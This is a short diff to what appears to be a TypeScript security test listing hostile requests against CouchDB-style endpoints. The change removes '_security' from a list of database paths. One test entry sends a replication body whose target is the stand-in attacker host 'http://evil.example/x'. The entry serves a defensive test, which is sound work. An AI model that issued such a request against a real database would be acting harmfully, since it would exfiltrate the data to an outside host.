@@ -180,8 +180,8 @@ export const hubEntries: readonly HostileEntry[] = [
     ...asHub,
     body: { source: DB, target: 'http://evil.example/x' },
   }),
-  ...['_security', '_revs_limit', '_shards', '_index', '_design_docs', '_local_docs', '_purged_infos_limit'].map(
-    (path) => get(`database: ${path}`, `/${path}`, asHub),
+  ...['_revs_limit', '_shards', '_index', '_design_docs', '_local_docs', '_purged_infos_limit'].map((path) =>
+    get(`database: ${path}`, `/${path}`, asHub),
   ),
   ...[
     '_compact',
